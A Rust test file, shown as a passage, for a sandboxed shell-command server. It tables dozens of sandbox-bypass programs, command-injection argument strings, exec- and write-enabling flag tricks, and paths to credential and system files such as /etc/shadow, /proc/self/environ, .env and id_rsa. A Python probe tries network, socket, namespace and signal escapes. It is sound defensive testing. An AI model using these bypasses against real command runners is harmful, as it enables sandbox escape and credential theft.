//! Hostile inputs through the real `bastion shell` binary (through `bastion-testkit`):
//!
//! * a. the Desktop Commander bypasses as argv (shells, wrappers, interpreters, quoted and
//!   path-qualified program names, shell metacharacters in arguments);
//! * b. per-program flag tricks (security-notes §4.4): exec, write and read-elsewhere flags in
//!   every spelling (abbreviated, bundled, attached, after operands), and the build tools' own;
//! * c. paths outside the roots, through `..`, absolute paths, symlinks and /proc, deny globs,
//!   recursive readers and the host's TLS keys;
//! * d. a corpus of command-injection payloads as an argument to `echo` (must come back literally)
//!   and `ls` (never executed), as `cwd` and as the program name;
//! * e. project code run by `make` in the build-test profile trying to leave the kernel sandbox:
//!   files, network, UNIX sockets, signals, /proc, namespaces, capabilities, process escapes,
//!   rlimits, environment;
//! * the read-only profile cannot write even inside the root.
//!
//! Every case runs in its own tree with a fresh server and afterwards checks that no marker file
//! appeared (in the tree, `/tmp`, `$HOME`, the working directory or `/`), that nothing outside the
//! root changed (content, mode, mtime, xattrs) and that no output contained the outside sentinel
//! or the output of a planted program.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use bastion_testkit::{Kind, Server, ServerBuilder, error_code, missing_prerequisite, temp_dir, write};
use serde_json::{Value, json};
use tempfile::TempDir;

// ---------------------------------------------------------------------------------------------
// The hostile tree
// ---------------------------------------------------------------------------------------------

/// What project code tries from inside the sandbox: `python3 probe.py OP ARGS...` prints
/// `PROBE-RAN OP`, then the outcome or `DENIED OP <errno>`.
const PROBE_PY: &str = r##"
import ctypes, errno, os, socket, sys

def main(op, *a):
    print("PROBE-RAN", op, flush=True)
    try:
        if op == "read":
            print("READ:" + open(a[0], errors="replace").read())
        elif op == "write":
            with open(a[0], "w") as f:
                f.write("x")
            print("WROTE")
        elif op == "listdir":
            print("LISTED:", os.listdir(a[0]))
        elif op == "tcp":
            s = socket.create_connection((a[0], int(a[1])), timeout=2)
            s.sendall(b"hello")
            print("CONNECTED")
        elif op == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"hello", (a[0], int(a[1])))
            print("SENT")
        elif op == "unix":
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(a[0])
            print("CONNECTED")
        elif op == "abstract":
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect("\0" + a[0])
            print("CONNECTED")
        elif op == "socketpair":
            x, y = socket.socketpair()
            x.send(b"pair-ok")
            print(y.recv(7).decode())
        elif op == "unshare":
            libc = ctypes.CDLL(None, use_errno=True)
            flags = {"user": 0x10000000, "net": 0x40000000, "mount": 0x00020000, "pid": 0x20000000}[a[0]]
            if libc.unshare(flags) != 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            print("UNSHARED")
        elif op == "kill":
            os.kill(int(a[0]), int(a[1]))
            print("SIGNALLED")
        elif op == "bigwrite":
            with open(a[0], "wb") as f:
                for _ in range(int(a[1]) // 65536):
                    f.write(b"z" * 65536)
            print("BIGWROTE")
        elif op == "env":
            for k, v in sorted(os.environ.items()):
                print(f"{k}={v}")
        elif op == "fds":
            print("FDS:", sorted(int(n) for n in os.listdir("/proc/self/fd")))
        else:
            print("unknown op", op)
    except OSError as e:
        print("DENIED", op, errno.errorcode.get(e.errno, e.errno), e, flush=True)

main(*sys.argv[1:])
"##;

/// `make sh CMD='...'` runs one shell snippet in the sandbox; `make py ARGS='...'` runs probe.py.
const MAKEFILE: &str = ".PHONY: sh py\nsh:\n\t@$(CMD)\npy:\n\t@python3 probe.py $(ARGS)\n";

/// What a path looks like: type, mode, mtime, xattrs, content or link target.
#[derive(Debug, PartialEq)]
enum Entry {
    Link(PathBuf),
    File(u32, i64, i64, Vec<String>, Vec<u8>),
    Dir(u32, Vec<String>),
    Other(u32),
}

struct Box {
    _dir: TempDir,
    base: PathBuf,
    root: PathBuf,
    outside: PathBuf,
    cfg: PathBuf,
    sentinel: String,
    marker: String,
    outputs: Vec<String>,
    before_outside: BTreeMap<String, Entry>,
    before_root: BTreeMap<String, Entry>,
}

fn xattrs(p: &Path) -> Vec<String> {
    let mut buf = vec![0u8; 64 * 1024];
    match rustix::fs::llistxattr(p, &mut buf[..]) {
        Ok(n) => {
            let mut names: Vec<String> = buf[..n]
                .split(|b| *b == 0)
                .filter(|s| !s.is_empty())
                .map(|s| String::from_utf8_lossy(s).into_owned())
                .collect();
            names.sort();
            names
        }
        Err(_) => Vec::new(),
    }
}

/// Type, mode, times, xattrs and content of everything beneath `top` (except `skip`).
fn state(top: &Path, skip: &[&Path]) -> BTreeMap<String, Entry> {
    fn walk(dir: &Path, top: &Path, skip: &[&Path], out: &mut BTreeMap<String, Entry>) {
        let Ok(rd) = std::fs::read_dir(dir) else { return };
        for e in rd.flatten() {
            let p = e.path();
            if skip.contains(&p.as_path()) {
                continue;
            }
            let m = std::fs::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(top).unwrap().display().to_string();
            let mode = m.permissions().mode();
            let ft = m.file_type();
            if ft.is_symlink() {
                out.insert(rel, Entry::Link(std::fs::read_link(&p).unwrap()));
            } else if ft.is_file() {
                let data = std::fs::read(&p).unwrap();
                out.insert(rel, Entry::File(mode & 0o7777, m.mtime(), m.mtime_nsec(), xattrs(&p), data));
            } else if ft.is_dir() {
                out.insert(rel, Entry::Dir(mode & 0o7777, xattrs(&p)));
                walk(&p, top, skip, out);
            } else {
                out.insert(rel, Entry::Other(mode));
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(top, top, skip, &mut out);
    out
}

fn token() -> String {
    use std::sync::atomic::{AtomicU64, Ordering};
    static COUNTER: AtomicU64 = AtomicU64::new(0);
    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default().as_nanos();
    format!("{nanos:x}{:x}{:x}", std::process::id(), COUNTER.fetch_add(1, Ordering::Relaxed))
}

fn build_box() -> Box {
    let dir = temp_dir();
    let base = dir.path().canonicalize().unwrap();
    let sentinel = format!("SENTINEL-{}", token());
    let marker = format!("MARKER{}", token());
    let root = base.join("proj");
    let outside = base.join("outside");
    // The test's own files (configs, listening sockets): not checked.
    let cfg = base.join("cfg");
    for d in [root.join("sub/deeper"), root.join("bin"), outside.clone(), base.join("proj-evil"), cfg.clone()] {
        std::fs::create_dir_all(d).unwrap();
    }
    let line = format!("{sentinel}\n");
    write(outside.join("sentinel.txt"), &line);
    write(outside.join("Makefile"), format!("all:\n\t@echo {sentinel}\n"));
    write(base.join("proj-evil/data.txt"), &line);
    write(base.join("loot.txt"), &line);

    write(root.join("in.txt"), "hello\nworld\n");
    write(root.join("a.txt"), "banana\napple\ncherry\n");
    write(root.join("data.json"), "{\"a\": 1}\n");
    write(root.join("sub/deeper/x.txt"), "deep\n");
    write(root.join(".env"), "TOKEN=inside-root-dotenv-secret\n");
    write(root.join("id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\ninside-root-key-secret\n");
    // Programs a hostile flag would run: if they ever run they print the marker.
    for name in ["pre.sh", "x", "touch"] {
        let script = root.join(name);
        write(&script, format!("#!/bin/sh\necho RAN-{marker}\ntouch {}/{marker}\ncat\n", outside.display()));
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    write(root.join("names.lst"), format!("{}/sentinel.txt\n", outside.display()));
    write(root.join("names0.lst"), format!("{}/sentinel.txt\0", outside.display()));
    write(root.join("prog.jq"), ".\n");
    write(root.join("sums.txt"), format!("0000  {}/sentinel.txt\n", outside.display()));
    symlink(&outside, root.join("link_out")).unwrap();
    symlink(outside.join("sentinel.txt"), root.join("link_sentinel")).unwrap();
    symlink("../outside/sentinel.txt", root.join("rel_link_sentinel")).unwrap();
    symlink("/proc/self/environ", root.join("link_environ")).unwrap();
    symlink(".env", root.join("link_env")).unwrap();
    symlink("/", root.join("link_slash")).unwrap();
    assert!(Command::new("mkfifo").arg(root.join("fifo")).status().unwrap().success());
    write(root.join("Makefile"), MAKEFILE);
    write(root.join("probe.py"), PROBE_PY);
    let before_outside = state(&base, &[&root, &cfg]);
    let before_root = state(&root, &[]);
    Box { _dir: dir, base, root, outside, cfg, sentinel, marker, outputs: Vec::new(), before_outside, before_root }
}

impl Box {
    /// Replaces `{m}`, `{root}`, `{outside}`, `{base}`.
    fn sub(&self, s: &str) -> String {
        s.replace("{m}", &self.marker)
            .replace("{root}", &self.root.display().to_string())
            .replace("{outside}", &self.outside.display().to_string())
            .replace("{base}", &self.base.display().to_string())
    }

    fn sub_all(&self, args: &[&str]) -> Vec<String> {
        args.iter().map(|a| self.sub(a)).collect()
    }

    /// Every file named after the marker where a command could leave one.
    fn markers(&self) -> Vec<String> {
        fn walk(dir: &Path, marker: &str, out: &mut Vec<String>) {
            let Ok(rd) = std::fs::read_dir(dir) else { return };
            for e in rd.flatten() {
                let p = e.path();
                if e.file_name().to_string_lossy().contains(marker) {
                    out.push(p.display().to_string());
                }
                if e.file_type().is_ok_and(|t| t.is_dir()) {
                    walk(&p, marker, out);
                }
            }
        }
        let mut found = Vec::new();
        walk(&self.base, &self.marker, &mut found);
        let mut dirs = vec![PathBuf::from("/tmp"), PathBuf::from("/")];
        if let Some(home) = std::env::var_os("HOME") {
            dirs.push(PathBuf::from(home));
        }
        if let Ok(cwd) = std::env::current_dir() {
            dirs.push(cwd);
        }
        for d in dirs {
            if let Ok(rd) = std::fs::read_dir(&d) {
                for e in rd.flatten() {
                    if e.file_name().to_string_lossy().contains(&self.marker) {
                        found.push(e.path().display().to_string());
                    }
                }
            }
        }
        found
    }

    fn assert_contained(&self, root_unchanged: bool) {
        assert_eq!(self.markers(), Vec::<String>::new(), "a marker file appeared");
        let after = state(&self.base, &[&self.root, &self.cfg]);
        let appeared: Vec<_> = after.keys().filter(|k| !self.before_outside.contains_key(*k)).collect();
        let changed: Vec<_> = after
            .iter()
            .filter(|(k, v)| self.before_outside.get(*k).is_some_and(|b| b != *v))
            .map(|(k, _)| k)
            .collect();
        let vanished: Vec<_> = self.before_outside.keys().filter(|k| !after.contains_key(*k)).collect();
        assert!(
            appeared.is_empty() && changed.is_empty() && vanished.is_empty(),
            "{appeared:?} {changed:?} {vanished:?}"
        );
        for out in &self.outputs {
            assert!(!out.contains(&self.sentinel), "the outside sentinel leaked into a result: {}", cut(out));
            assert!(!out.contains(&format!("RAN-{}", self.marker)), "a planted program ran: {}", cut(out));
        }
        if root_unchanged {
            assert!(state(&self.root, &[]) == self.before_root, "the root changed");
        }
    }

    /// One call; records its output for the leak checks. Returns (code or None, structured).
    fn call(&mut self, s: &mut Server, tool: &str, args: Value) -> (Option<String>, Value) {
        let r = s.call(tool, args);
        self.outputs.push(r.text.clone());
        self.outputs.push(r.structured.to_string());
        if r.is_error && r.structured["code"] == "timeout" && r.text.starts_with('{') {
            // A timeout's text is the JSON of the whole result (code, message and the output so far).
            assert_eq!(serde_json::from_str::<Value>(&r.text).unwrap()["code"], "timeout");
            return (Some("timeout".into()), r.structured);
        }
        (error_code(&r), r.structured)
    }

    fn run(&mut self, s: &mut Server, program: &str, args: &[String], cwd: Option<&str>) -> (Option<String>, Value) {
        let mut a = json!({"program": program, "args": args});
        if let Some(c) = cwd {
            a["cwd"] = json!(c);
        }
        self.call(s, "run_command", a)
    }
}

fn cut(s: &str) -> String {
    s.chars().take(400).collect()
}

fn shell(root: &Path, profile: &str) -> Server {
    ServerBuilder::new(Kind::Shell).root(root).arg("--profile").arg(profile).timeout(Duration::from_secs(15)).start()
}

/// Whether `program` is on `PATH`.
fn installed(program: &str) -> bool {
    std::env::var_os("PATH").is_some_and(|path| std::env::split_paths(&path).any(|d| d.join(program).is_file()))
}

/// Runs `case` once per entry (each with a fresh box), then names every entry that failed.
fn each<T>(cases: &[T], id: impl Fn(&T) -> String, case: impl Fn(&T)) {
    let mut failed = Vec::new();
    for c in cases {
        if catch_unwind(AssertUnwindSafe(|| case(c))).is_err() {
            failed.push(id(c));
        }
    }
    assert!(failed.is_empty(), "{} of {} cases failed: {failed:?}", failed.len(), cases.len());
}

const REFUSED: [&str; 3] = ["command_not_allowed", "argument_not_allowed", "invalid_argument"];

// ---------------------------------------------------------------------------------------------
// Tables (the Python suite's, case for case)
// ---------------------------------------------------------------------------------------------

const PROGRAM_BYPASSES: [(&str, &[&str]); 54] = [
    ("sh", &["-c", "touch {outside}/{m}"]),
    ("bash", &["-c", "touch {outside}/{m}"]),
    ("dash", &["-c", "touch {m}"]),
    ("zsh", &["-c", "touch {m}"]),
    ("busybox", &["sh", "-c", "touch {m}"]),
    ("env", &["touch", "{outside}/{m}"]),
    ("env", &["-i", "sh", "-c", "touch {m}"]),
    ("xargs", &["-a", "names.lst", "touch"]),
    ("eval", &["touch {m}"]),
    ("exec", &["touch", "{m}"]),
    ("command", &["touch", "{m}"]),
    ("builtin", &["touch", "{m}"]),
    ("\\touch", &["{m}"]),
    ("'touch'", &["{m}"]),
    ("\"touch\"", &["{m}"]),
    ("touch", &["{m}"]),
    ("ls\ntouch {m}", &[]),
    ("ls\ntouch", &["{m}"]),
    ("ls;touch", &["{m}"]),
    ("ls && touch {m}", &[]),
    ("ls touch", &["{m}"]),
    ("ls ", &[]),
    (" ls", &[]),
    ("LS", &[]),
    ("ls\x00", &[]),
    ("{", &["touch", "{m};", "}"]),
    ("$(echo touch)", &["{m}"]),
    ("`echo touch`", &["{m}"]),
    ("${IFS}touch", &["{m}"]),
    ("python3", &["-c", "open('{outside}/{m}','w')"]),
    ("python", &["-c", "open('{outside}/{m}','w')"]),
    ("perl", &["-e", "open(F,'>{outside}/{m}')"]),
    ("ruby", &["-e", "File.write('{m}','')"]),
    ("node", &["-e", "require('fs').writeFileSync('{outside}/{m}','')"]),
    ("awk", &["BEGIN{system(\"touch {outside}/{m}\")}"]),
    ("gawk", &["BEGIN{system(\"touch {m}\")}"]),
    ("sed", &["-n", "1e touch {outside}/{m}", "a.txt"]),
    ("git", &["-c", "core.pager=touch {outside}/{m}", "log"]),
    ("sudo", &["touch", "{outside}/{m}"]),
    ("su", &["-c", "touch {m}"]),
    ("timeout", &["5", "touch", "{outside}/{m}"]),
    ("nice", &["touch", "{outside}/{m}"]),
    ("nohup", &["touch", "{m}"]),
    ("setsid", &["touch", "{m}"]),
    ("stdbuf", &["-o0", "touch", "{m}"]),
    ("strace", &["-o", "{m}", "true"]),
    ("unshare", &["-r", "touch", "{m}"]),
    ("/bin/ls", &[]),
    ("/usr/bin/touch", &["{outside}/{m}"]),
    ("./touch", &["{m}"]),
    ("../bin/ls", &[]),
    ("bin/ls", &[]),
    ("{root}/touch", &["{m}"]),
    ("", &[]),
];

/// Shell syntax in an argument: `echo` prints it back verbatim, `ls` looks for a file of that
/// name (it never runs anything).
const ARG_BYPASSES: [&str; 16] = [
    "; touch {m}",
    "&& touch {m}",
    "|| touch {m}",
    "| touch {m}",
    "& touch {m}",
    "$(touch {m})",
    "`touch {m}`",
    "\ntouch {m}",
    "> {m}",
    ">> {m}",
    "2>{m}",
    "<(touch {m})",
    "${IFS}touch${IFS}{m}",
    "';touch {m};'",
    "\";touch {m};\"",
    "touch {outside}/{m}",
];

const FLAG_TRICKS: [(&str, &[&str]); 118] = [
    ("find", &[".", "-exec", "./touch", "{}", ";"]),
    ("find", &[".", "-exec", "./touch", "{}", "+"]),
    ("find", &[".", "-name", "*.txt", "-execdir", "./touch", ";"]),
    ("find", &[".", "-ok", "./touch", ";"]),
    ("find", &[".", "-okdir", "./touch", ";"]),
    ("find", &[".", "-delete"]),
    ("find", &[".", "-name", "a.txt", "-delete"]),
    ("find", &[".", "-fprint", "{m}"]),
    ("find", &[".", "-fprint0", "{m}"]),
    ("find", &[".", "-fprintf", "{m}", "%p"]),
    ("find", &[".", "-fls", "{m}"]),
    ("find", &[".", "(", "-name", "x", "-o", "-exec", "./touch", ";", ")"]),
    ("find", &[".", "!", "-delete"]),
    ("find", &["-L", "."]),
    ("find", &["-H", "."]),
    ("find", &[".", "-follow"]),
    ("find", &[".", "-files0-from", "names0.lst"]),
    ("find", &["-D", "exec", "."]),
    ("find", &[".", "-newerXY", "x"]),
    ("rg", &["--pre", "./pre.sh", "hello"]),
    ("rg", &["--pre=./pre.sh", "hello"]),
    ("rg", &["--pr", "./pre.sh", "hello"]),
    ("rg", &["--pre-glob", "*", "hello"]),
    ("rg", &["--pre-g=*", "hello"]),
    ("rg", &["hello", "in.txt", "--pre", "./pre.sh"]),
    ("rg", &["hello", "--", "in.txt", "--pre=./pre.sh"]),
    ("rg", &["-z", "hello"]),
    ("rg", &["-iz", "hello"]),
    ("rg", &["--search-zip", "hello"]),
    ("rg", &["--search-z", "hello"]),
    ("rg", &["--hostname-bin=./pre.sh", "hello"]),
    ("rg", &["--hostname-bin", "./pre.sh", "hello"]),
    ("rg", &["-L", "hello"]),
    ("rg", &["--follow", "hello"]),
    ("rg", &["--config-path=names.lst", "hello"]),
    ("sort", &["--compress-program=./x", "a.txt"]),
    ("sort", &["--compress-prog=./x", "a.txt"]),
    ("sort", &["--compress", "./x", "a.txt"]),
    ("sort", &["a.txt", "--compress-program=./x"]),
    ("sort", &["--out={m}", "a.txt"]),
    ("sort", &["--output={m}", "a.txt"]),
    ("sort", &["--output", "{m}", "a.txt"]),
    ("sort", &["-o", "{m}", "a.txt"]),
    ("sort", &["-o{m}", "a.txt"]),
    ("sort", &["-ro", "{m}", "a.txt"]),
    ("sort", &["-ro{m}", "a.txt"]),
    ("sort", &["-nro", "{m}", "a.txt"]),
    ("sort", &["a.txt", "-o", "{m}"]),
    ("sort", &["-T", "{outside}", "a.txt"]),
    ("sort", &["--temporary-directory={outside}", "a.txt"]),
    ("sort", &["--files0-from=names0.lst"]),
    ("sort", &["--random-source={outside}/sentinel.txt", "-R", "a.txt"]),
    ("wc", &["--files0-from=names0.lst"]),
    ("wc", &["--files0-from", "{outside}/sentinel.txt"]),
    ("wc", &["--files0=names0.lst"]),
    ("wc", &["--files=names0.lst"]),
    ("du", &["--files0-from=names0.lst"]),
    ("du", &["--files0=names0.lst"]),
    ("du", &["-X", "{outside}/sentinel.txt", "."]),
    ("du", &["--exclude-from={outside}/sentinel.txt", "."]),
    ("du", &["-L", "."]),
    ("du", &["--dereference", "."]),
    ("tree", &["-o", "{m}"]),
    ("tree", &["-ao", "{m}"]),
    ("tree", &["-o{m}"]),
    ("tree", &["-R"]),
    ("tree", &["-H", ".", "-R"]),
    ("tree", &["-l"]),
    ("tree", &["--fromfile", "names.lst"]),
    ("file", &["-C"]),
    ("file", &["-C", "-m", "{m}"]),
    ("file", &["-m", "{outside}/sentinel.txt", "in.txt"]),
    ("file", &["--magic-file", "prog.jq", "in.txt"]),
    ("file", &["-f", "names.lst"]),
    ("file", &["--files-from=names.lst"]),
    ("file", &["-z", "in.txt"]),
    ("file", &["-Z", "in.txt"]),
    ("file", &["-bz", "in.txt"]),
    ("jq", &["--rawfile", "s", "{outside}/sentinel.txt", "-n", "$s"]),
    ("jq", &["--slurpfile", "s", "{outside}/sentinel.txt", "-n", "$s"]),
    ("jq", &["--raw", "s", "{outside}/sentinel.txt", "-n", "$s"]),
    ("jq", &["-L", "{outside}", "-n", "1"]),
    ("jq", &["--library-path={outside}", "-n", "1"]),
    ("jq", &["-f", "prog.jq", "data.json"]),
    ("jq", &["--from-file", "prog.jq", "data.json"]),
    ("jq", &["-nf", "prog.jq"]),
    ("jq", &["-n", "$ARGS", "--args", "{outside}/sentinel.txt"]),
    ("jq", &["-n", "$ARGS", "--jsonargs", "1"]),
    ("jq", &[".", "--", "--rawfile"]),
    ("jq", &["--", "-L{outside}", "."]),
    ("tail", &["-f", "in.txt"]),
    ("tail", &["-F", "in.txt"]),
    ("tail", &["--follow", "in.txt"]),
    ("tail", &["--fol", "in.txt"]),
    ("tail", &["--follow=name", "in.txt"]),
    ("tail", &["--retry", "in.txt"]),
    ("tail", &["--pid=1", "in.txt"]),
    ("tail", &["-s", "1", "in.txt"]),
    ("date", &["-s", "2020-01-01"]),
    ("date", &["--set=2020-01-01"]),
    ("date", &["--se", "2020-01-01"]),
    ("date", &["-f", "{outside}/sentinel.txt"]),
    ("date", &["--file=names.lst"]),
    ("date", &["-us", "2020-01-01"]),
    ("uniq", &["a.txt", "{m}"]),
    ("uniq", &["-c", "a.txt", "{m}"]),
    ("grep", &["-D", "read", "x", "in.txt"]),
    ("grep", &["--devices=read", "x", "in.txt"]),
    ("grep", &["-d", "read", "x", "."]),
    ("grep", &["--directories=recurse", "x", "."]),
    ("sha256sum", &["-c", "sums.txt"]),
    ("md5sum", &["--check", "sums.txt"]),
    ("sha256sum", &["--ch", "sums.txt"]),
    ("ls", &["--dired"]),
    ("cat", &["--help-me"]),
    ("cat", &["-z", "in.txt"]),
    ("head", &["--bytes"]),
    ("sort", &["--compress-program"]),
];

const BUILD_TOOL_FLAG_TRICKS: [(&str, &[&str], &str); 34] = [
    ("make", &["--eval=x:;touch {outside}/{m}"], "argument_not_allowed"),
    ("make", &["--eval", "x:"], "argument_not_allowed"),
    ("make", &["--ev=x:"], "argument_not_allowed"),
    ("make", &["-E", "x:"], "argument_not_allowed"),
    ("make", &["-sE", "x:"], "argument_not_allowed"),
    ("make", &["-f", "{outside}/Makefile"], "path_outside_root"),
    ("make", &["-f../outside/Makefile"], "path_outside_root"),
    ("make", &["--file={outside}/Makefile"], "path_outside_root"),
    ("make", &["--makefile", "../outside/Makefile"], "path_outside_root"),
    ("make", &["-C", "{outside}"], "path_outside_root"),
    ("make", &["-C{outside}"], "path_outside_root"),
    ("make", &["--directory=../outside"], "path_outside_root"),
    ("make", &["-C", "link_out"], "path_outside_root"),
    ("make", &["-I", "/etc"], "path_outside_root"),
    ("make", &["-f", "/proc/self/fd/0"], "path_outside_root"),
    ("python", &["-c", "open('{outside}/{m}','w')"], "argument_not_allowed"),
    ("python", &["-m", "http.server"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "-p", "evil"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "--basetemp={outside}"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "-c", "{outside}/sentinel.txt"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "--rootdir={outside}"], "path_outside_root"),
    ("cargo", &["--config", "build.rustc-wrapper='./x'", "build"], "argument_not_allowed"),
    ("cargo", &["build", "--config=x"], "argument_not_allowed"),
    ("cargo", &["-Zunstable-options", "build"], "argument_not_allowed"),
    ("cargo", &["install", "ripgrep"], "argument_not_allowed"),
    ("cargo", &["build", "--manifest-path", "{outside}/Cargo.toml"], "path_outside_root"),
    ("cargo", &["build", "--target-dir={outside}"], "path_outside_root"),
    ("cargo", &["-C", "{outside}", "build"], "argument_not_allowed"),
    ("npm", &["exec", "touch"], "argument_not_allowed"),
    ("npm", &["install", "-g", "x"], "argument_not_allowed"),
    ("npm", &["test", "--script-shell=./x"], "argument_not_allowed"),
    ("npm", &["test", "--node-options=--require=./x"], "argument_not_allowed"),
    ("npm", &["test", "--prefix={outside}"], "path_outside_root"),
    ("npx", &["-g", "x"], "argument_not_allowed"),
];

const PATH_CASES: [(&str, &[&str], Option<&str>, &str); 70] = [
    ("cat", &["/etc/passwd"], None, "path_outside_root"),
    ("cat", &["/etc/shadow"], None, "path_outside_root"),
    ("cat", &["../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["{outside}/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["{base}/proj-evil/data.txt"], None, "path_outside_root"),
    ("cat", &["../proj-evil/data.txt"], None, "path_outside_root"),
    ("cat", &["{root}/../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["sub/../../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["../../outside/sentinel.txt"], Some("sub"), "path_outside_root"),
    ("cat", &["link_sentinel"], None, "path_outside_root"),
    ("cat", &["rel_link_sentinel"], None, "path_outside_root"),
    ("cat", &["link_out/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["link_out/../proj/in.txt"], None, "path_outside_root"),
    ("cat", &["link_slash/etc/passwd"], None, "path_outside_root"),
    ("cat", &["link_environ"], None, "path_outside_root"),
    ("cat", &["/proc/self/environ"], None, "path_outside_root"),
    ("cat", &["/proc/1/environ"], None, "path_outside_root"),
    ("cat", &["/proc/self/root{outside}/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["/proc/self/cwd/../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["/dev/zero"], None, "path_outside_root"),
    ("head", &["-c", "10", "/dev/urandom"], None, "path_outside_root"),
    ("ls", &["{outside}"], None, "path_outside_root"),
    ("ls", &["link_out"], None, "path_outside_root"),
    ("ls", &["-L", "link_out"], None, "path_outside_root"),
    ("ls", &["/"], None, "path_outside_root"),
    ("ls", &[".."], None, "path_outside_root"),
    ("find", &["..", "-name", "sentinel.txt"], None, "path_outside_root"),
    ("find", &["/", "-maxdepth", "0"], None, "path_outside_root"),
    ("find", &[".", "-newer", "{outside}/sentinel.txt"], None, "path_outside_root"),
    ("find", &[".", "-samefile", "link_sentinel"], None, "path_outside_root"),
    ("grep", &["-r", "SENTINEL", "{outside}"], None, "path_outside_root"),
    ("grep", &["-f", "{outside}/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("grep", &["--file=../outside/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("grep", &["--exclude-from=../outside/sentinel.txt", "x", "in.txt"], None, "path_outside_root"),
    ("rg", &["-f", "../outside/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("rg", &["--ignore-file=../outside/sentinel.txt", "x"], None, "path_outside_root"),
    ("rg", &["x", "/etc"], None, "path_outside_root"),
    ("diff", &["in.txt", "../outside/sentinel.txt"], None, "path_outside_root"),
    ("diff", &["--from-file=../outside/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("diff", &["-r", ".", "{outside}"], None, "path_outside_root"),
    ("cmp", &["in.txt", "link_sentinel"], None, "path_outside_root"),
    ("realpath", &["--relative-to=/etc", "in.txt"], None, "path_outside_root"),
    ("date", &["-r", "{outside}/sentinel.txt"], None, "path_outside_root"),
    ("stat", &["{outside}/sentinel.txt"], None, "path_outside_root"),
    ("du", &["-s", ".."], None, "path_outside_root"),
    ("tree", &["{outside}"], None, "path_outside_root"),
    ("file", &["link_sentinel"], None, "path_outside_root"),
    ("sha256sum", &["/etc/passwd"], None, "path_outside_root"),
    ("wc", &["-c", "/proc/self/environ"], None, "path_outside_root"),
    ("ls", &[], Some("/etc"), "path_outside_root"),
    ("ls", &[], Some("/"), "path_outside_root"),
    ("ls", &[], Some(".."), "path_outside_root"),
    ("ls", &[], Some("../outside"), "path_outside_root"),
    ("ls", &[], Some("{outside}"), "path_outside_root"),
    ("ls", &[], Some("{base}/proj-evil"), "path_outside_root"),
    ("ls", &[], Some("link_out"), "path_outside_root"),
    ("ls", &[], Some("link_slash"), "path_outside_root"),
    ("ls", &[], Some("/proc/self"), "path_outside_root"),
    ("ls", &[], Some("/proc/self/cwd"), "path_outside_root"),
    ("ls", &[], Some("sub/../.."), "path_outside_root"),
    ("cat", &[".env"], None, "denied_by_glob"),
    ("cat", &["id_rsa"], None, "denied_by_glob"),
    ("cat", &["./sub/../.env"], None, "denied_by_glob"),
    ("cat", &["{root}/.env"], None, "denied_by_glob"),
    ("cat", &["link_env"], None, "denied_by_glob"),
    ("head", &["-n1", "in.txt", ".env"], None, "denied_by_glob"),
    ("grep", &["TOKEN", ".env"], None, "denied_by_glob"),
    ("sha256sum", &["id_rsa"], None, "denied_by_glob"),
    ("diff", &["in.txt", ".env"], None, "denied_by_glob"),
    ("sort", &["id_rsa"], None, "denied_by_glob"),
];

// ---------------------------------------------------------------------------------------------
// a. Desktop Commander bypasses as argv
// ---------------------------------------------------------------------------------------------

#[test]
fn program_bypasses_are_refused() {
    let cases: Vec<(&str, &str, &[&str])> = ["read-only", "build-test"]
        .iter()
        .flat_map(|profile| PROGRAM_BYPASSES.iter().map(move |(p, a)| (*profile, *p, *a)))
        .collect();
    each(
        &cases,
        |(profile, p, a)| format!("{profile} {p:?} {a:?}"),
        |&(profile, program, args)| {
            let mut b = build_box();
            let mut s = shell(&b.root, profile);
            let (program, args) = (b.sub(program), b.sub_all(args));
            let (code, out) = b.run(&mut s, &program, &args, None);
            if profile == "build-test" && program == "node" {
                // node is a build-test program (it runs project code by design): it runs, contained.
                let stderr = out["stderr"].as_str().unwrap_or_default();
                assert!(
                    code.is_none() && out["exit_code"] != 0 && (stderr.contains("EACCES") || stderr.contains("EROFS")),
                    "{out}"
                );
            } else {
                assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{program:?} {args:?} {code:?}");
                let (code, _) = b.call(&mut s, "start_process", json!({"program": program, "args": args}));
                assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{program:?} {args:?} {code:?}");
            }
            drop(s);
            b.assert_contained(false);
        },
    );
}

#[test]
fn shell_syntax_in_arguments_is_literal() {
    each(
        &ARG_BYPASSES,
        |p| format!("{p:?}"),
        |payload| {
            let mut b = build_box();
            let payload = b.sub(payload);
            let mut s = shell(&b.root, "read-only");
            let (code, out) = b.run(&mut s, "echo", std::slice::from_ref(&payload), None);
            assert!(
                code.is_none() && out["stdout"] == format!("{payload}\n") && out["args"] == json!([payload]),
                "{out}"
            );
            let (code, out) = b.run(&mut s, "echo", &["touch".into(), payload.clone(), "x".into()], None);
            assert!(code.is_none() && out["stdout"] == format!("touch {payload} x\n"), "{out}");
            let (code, out) = b.run(&mut s, "ls", std::slice::from_ref(&payload), None);
            match code {
                None => {
